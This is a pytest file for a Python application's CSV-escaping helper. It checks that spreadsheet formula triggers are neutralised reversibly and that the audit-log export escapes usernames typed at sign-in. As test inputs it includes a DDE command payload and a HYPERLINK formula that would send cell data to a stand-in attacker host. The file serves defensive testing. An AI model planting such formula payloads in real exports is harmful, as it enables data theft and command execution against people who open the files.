"""CSV cells are opened by spreadsheets: nothing the product writes may run as a formula, and
the escaping is reversible (the audit export must still re-hash to its chain)."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from elasticsearch import Elasticsearch
from flask.testing import FlaskClient

from foi_core.accounts import create_user
from foi_core.csv_safe import FORMULA_TRIGGERS, csv_cell, csv_cells, original_cell
from foi_core.db import transaction
from foi_core.migrate import upgrade
from foi_core.settings import Settings
from search_app import create_app

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "correct horse battery staple"
PACKAGES = (
    "foi_core",
    "crawler",
    "indexer",
    "ingest",
    "search_app",
    "retention",
    "cases",
    "services",
    "foi_cli",
)


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+2", "'=1+2"), ("+44", "'+44"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"), ("plain", "plain"),
     ("a=b", "a=b"), (None, ""), (12, "12"), (-3, "'-3")],
)  # fmt: skip
def test_cells_a_spreadsheet_would_evaluate_are_escaped(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize("text", ['=HYPERLINK("x")', "'=x", "''", "plain", "", "-", "'"])
def test_escaping_is_undone_exactly(text: str) -> None:
    assert original_cell(csv_cell(text)) == text


def test_a_row_survives_the_csv_round_trip() -> None:
    row = ["=cmd|' /C calc'!A0", "@evil", "fine", 7]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_cells(row))
    [read] = csv.reader(io.StringIO(buffer.getvalue()))
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in read)
    assert [original_cell(cell) for cell in read] == [str(value) for value in row]


def _calls_to(name: str, tree: ast.AST) -> list[ast.Call]:
    return [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == name
    ]


def test_every_csv_writer_row_goes_through_the_helper() -> None:
    """Each module that writes CSV rows uses foi_core.csv_safe (or writes only headings and
    numbers it computes itself, listed here with the reason)."""
    computed_only = {
        # quarter, regime and counts, all computed: no text from users or shares.
        "cases/statistics.py",
    }
    unguarded = []
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            tree = ast.parse(text)
            writes = _calls_to("writerow", tree) + _calls_to("writerows", tree)
            if not writes:
                continue
            relative = path.relative_to(ROOT).as_posix()
            if relative not in computed_only and "csv_cell" not in text:
                unguarded.append(relative)
    assert unguarded == []


def test_the_audit_log_export_escapes_what_people_typed(tmp_path: Path) -> None:
    """A username typed at the sign-in page is audited as given; the CSV export of the log
    must not hand it to a spreadsheet as a formula."""
    settings = Settings(state_dir=tmp_path, database_url=f"sqlite:///{tmp_path / 'app.db'}")
    es = Elasticsearch("http://127.0.0.1:9")  # never called
    app = create_app(settings, es=es)
    upgrade(app.extensions["foi"].engine)
    with transaction(app.extensions["foi"].sessions) as db:
        create_user(db, "ada", "admin", PASSWORD)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    _sign_in(app.test_client(), hostile, "whatever it is")
    admin = app.test_client()
    _sign_in(admin, "ada", PASSWORD)
    exported = admin.get("/audit.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    [refused] = [row for row in rows if row["outcome"] == "denied"]
    assert refused["target"] == "'" + hostile
    assert not any(cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row.values())
    es.close()


def _sign_in(client: FlaskClient, username: str, password: str) -> None:
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").get_data(True))
    assert found
    client.post(
        "/login", data={"csrf_token": found.group(1), "username": username, "password": password}
    )
